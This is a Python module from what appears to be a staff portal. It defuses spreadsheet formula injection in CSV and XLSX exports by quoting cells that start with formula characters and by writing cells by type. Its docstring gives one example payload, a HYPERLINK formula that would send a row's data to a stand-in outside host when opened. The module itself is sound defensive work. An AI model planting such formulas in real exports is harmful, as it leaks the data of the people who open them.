"""Cells for every CSV and XLSX the portal writes, made safe to open.

A spreadsheet program treats a cell that begins with `=`, `+`, `-` or `@`
(or a tab or carriage return before one of them) as a formula. Staff names,
policy titles and emails are typed by people inside the trust, so a name like
`=HYPERLINK("http://x.example/?leak="&B2,"Click me")` would become a live
link that sends the row to another site when HR opens the export. As OWASP
advises, such text is prefixed with a single quote, which Excel and LibreOffice
show as text. Real numbers and dates are left as they are.
"""

from __future__ import annotations

import datetime
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# A plain number written as text ("-3", "+44") is harmless and stays readable.
_PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")  # ASCII digits: as the SQL guard (reports.exports)
# Control characters an XLSX file cannot hold (Excel refuses the whole file).
_NOT_IN_XLSX = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
# How a date cell shows in Excel and LibreOffice (a UK trust's day/month/year);
# the cell itself holds a date, so the column sorts and filters as dates.
XLSX_DATE_FORMAT = "dd/mm/yyyy"


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet may show it: text that would start a
    formula gets a leading single quote; anything not text is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


def safe_xlsx_row(row: Iterable[Any]) -> list[Any]:
    """As safe_row, and without the control characters XLSX cannot store.
    A quoted cell no longer begins with `=`; XlsxRowWriter writes every
    text as a string, never as a formula."""
    return [_NOT_IN_XLSX.sub("", cell) if isinstance(cell, str) else cell for cell in safe_row(row)]


# XlsxWriter's own guesses turned off: text is written as text, never as a
# formula, a link or a number (safe_cell has already defused formulas).
XLSX_TEXT_ONLY = {"strings_to_formulas": False, "strings_to_urls": False, "strings_to_numbers": False}


class XlsxRowWriter:
    """Writes safe_xlsx_row's cells into an XlsxWriter sheet, each by its
    type: text as text, numbers as numbers, a date (not a datetime) as a date
    cell shown dd/mm/yyyy rather than text Excel cannot sort or filter."""

    def __init__(self, sheet, date_format) -> None:
        self.sheet, self.date_format = sheet, date_format

    def write(self, row_number: int, row: Iterable[Any]) -> None:
        sheet = self.sheet
        for column, value in enumerate(safe_xlsx_row(row)):
            if value is None or value == "":
                continue
            if isinstance(value, str):
                sheet.write_string(row_number, column, value)
            elif isinstance(value, bool):
                sheet.write_boolean(row_number, column, value)
            elif isinstance(value, int | float):
                sheet.write_number(row_number, column, value)
            elif isinstance(value, datetime.date) and not isinstance(value, datetime.datetime):
                sheet.write_datetime(row_number, column, value, self.date_format)
            else:
                sheet.write_string(row_number, column, str(value))
